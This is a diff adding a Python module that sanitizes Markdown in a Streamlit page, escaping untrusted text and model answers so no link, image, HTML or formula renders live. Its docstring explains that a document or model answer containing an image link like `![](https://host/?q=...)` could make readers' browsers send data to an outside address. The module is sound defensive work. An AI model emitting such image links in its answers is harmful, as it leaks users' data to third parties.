@@ -1,0 +1,161 @@
+"""Markdown sources for the page: untrusted text shown as text, model answers with nothing live.
+
+Streamlit renders ``st.markdown``, captions, alerts, expander and widget labels, radio options
+and progress texts as GitHub-flavoured Markdown plus its own extensions (LaTeX between ``$``,
+``:color[...]`` directives). Raw HTML is escaped by Streamlit unless ``unsafe_allow_html`` is
+set (it never is here), but links and images stay live, and an image is fetched as soon as the
+page shows it: a document, a file name or a model answer quoting one could make every reader's
+browser call an address of its choosing (``![](https://host/?q=...)``). Hence two functions:
+
+- ``literal(text)``: file names, chat titles, questions, error messages, source labels. The
+  Markdown it returns displays exactly ``text``: every character that could start a construct
+  is backslash-escaped (CommonMark lets any ASCII punctuation be escaped).
+- ``answer_markdown(text)``: model answers keep emphasis, lists, headings, quotes, tables and
+  code, but outside code every ``[``, ``]``, ``<`` and ``$`` is escaped, so no link, image,
+  link reference, footnote, raw HTML, autolink, directive or formula can form. Citations such
+  as ``[1]`` or ``[1, 2]`` stay as they are: with every other bracket escaped no reference
+  definition can exist, so a bare ``[1]`` never becomes a link.
+
+Code spans and fenced blocks are copied untouched (escapes would show inside code), so where a
+code span or fence would start is decided conservatively: when in doubt the backticks are
+escaped and the text is treated as prose, which costs formatting, never safety.
+"""
+
+from __future__ import annotations
+
+import re
+import string
+
+_PUNCT = frozenset(string.punctuation)
+
+# literal(): characters escaped wherever they stand, and markers that only count at a line start.
+_LITERAL_ANYWHERE = frozenset("\\`*~[]<>$&|")
+_LINE_START_MARKER = re.compile(r"[#=+-]")
+_ORDERED_MARKER = re.compile(r"(\d{1,9})([.)])(?=\s|$)")
+_DELIMITER_ROW = re.compile(r"[:\s-]*-[:\s-]*")  # ":-" under a line would make it a table
+
+# answer_markdown(): characters escaped outside code.
+_ANSWER_ESCAPED = frozenset("[]<$")
+_CITATION = re.compile(r"\[\d+(?: *[,;–-] *\d+)*\](?![(\[:{])")
+_DIRECTIVE_NAME = re.compile(r":[A-Za-z][\w-]*$")
+_FENCE_OPEN = re.compile(r"(`{3,})[^`]*|(~{3,}).*")
+_FENCE_CLOSE = re.compile(r" {0,3}(`{3,}|~{3,})[ \t]*")
+
+
+def literal(text: str) -> str:
+    """Markdown that displays ``text`` exactly: no formatting, link, image, HTML or formula."""
+    lines = _lines(text)
+    # Leading blanks would turn a line into a code block; the browser collapses them anyway.
+    escaped = [_escape_literal_line(line.lstrip(" \t")) for line in lines]
+    # Two trailing spaces make each line break a real one, as it was in the text.
+    return "  \n".join(escaped)
+
+
+def answer_markdown(text: str) -> str:
+    """A model answer as Markdown that keeps its formatting but cannot link, embed or run anything."""
+    out: list[str] = []
+    fence: str | None = None
+    previous = ""
+    for line in _lines(text):
+        if fence is not None:
+            out.append(line)
+            closing = _FENCE_CLOSE.fullmatch(line)
+            if closing and closing.group(1)[0] == fence[0] and len(closing.group(1)) >= len(fence):
+                fence = None
+            continue
+        opening = _fence_opening(line, previous)
+        if opening is not None:
+            fence = opening
+            out.append(line)
+            continue
+        out.append(_escape_answer_line(line))
+        previous = line
+    return "\n".join(out)
+
+
+def _lines(text: str) -> list[str]:
+    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
+
+
+def _escape_literal_line(line: str) -> str:
+    chars = []
+    for i, ch in enumerate(line):
+        if ch in _LITERAL_ANYWHERE or (ch == "_" and not _intraword(line, i)):
+            chars.append("\\" + ch)
+        else:
+            chars.append(ch)
+    escaped = "".join(chars)
+    if _LINE_START_MARKER.match(escaped):  # heading, list item, setext underline, rule
+        return "\\" + escaped
+    if _DELIMITER_ROW.fullmatch(escaped):
+        return escaped.replace("-", "\\-", 1)
+    ordered = _ORDERED_MARKER.match(escaped)
+    if ordered:  # "2025. год" would start an ordered list at 2025
+        return f"{ordered.group(1)}\\{escaped[ordered.end(1) :]}"
+    return escaped
+
+
+def _intraword(line: str, i: int) -> bool:
+    # An underscore between two letters or digits can neither open nor close emphasis
+    # (GIGACHAT_CREDENTIALS stays readable in the element's source).
+    return 0 < i < len(line) - 1 and line[i - 1].isalnum() and line[i + 1].isalnum()
+
+
+def _fence_opening(line: str, previous: str) -> str | None:
+    # Only a fence at column 0 is surely a top-level block: an indented one may belong to a
+    # list item that a later, less indented line closes, and the fence with it. After a table
+    # row a fence line might be read as one more row, so a table must end with a blank line.
+    match = _FENCE_OPEN.fullmatch(line)
+    if match is None or "|" in previous:
+        return None
+    return match.group(1) or match.group(2)
+
+
+def _escape_answer_line(line: str) -> str:
+    out: list[str] = []
+    i, n = 0, len(line)
+    while i < n:
+        ch = line[i]
+        if ch == "\\" and i + 1 < n and line[i + 1] in _PUNCT:
+            out.append(line[i : i + 2])  # already escaped: keep the pair as it is
+            i += 2
+            continue
+        if ch == "`":
+            end = i
+            while end < n and line[end] == "`":
+                end += 1
+            close = _closing_run(line, end, end - i)
+            # A code span is kept only within one line, and never with a pipe inside: in a
+            # table row the pipe splits cells before code spans are found.
+            if close is not None and "|" not in line[end:close]:
+                out.append(line[i : close + end - i])
+                i = close + end - i
+            else:
+                out.append("\\`" * (end - i))
+                i = end
+            continue
+        if ch == "[":
+            citation = _CITATION.match(line, i)
+            if citation and not _DIRECTIVE_NAME.search(line, 0, i) and not line[:i].endswith("!"):
+                out.append(citation.group())
+                i = citation.end()
+                continue
+        out.append("\\" + ch if ch in _ANSWER_ESCAPED else ch)
+        i += 1
+    return "".join(out)
+
+
+def _closing_run(line: str, start: int, length: int) -> int | None:
+    """Index of the next run of exactly ``length`` backticks at or after ``start``."""
+    i, n = start, len(line)
+    while i < n:
+        if line[i] != "`":
+            i += 1
+            continue
+        end = i
+        while end < n and line[end] == "`":
+            end += 1
+        if end - i == length:
+            return i
+        i = end
+    return None
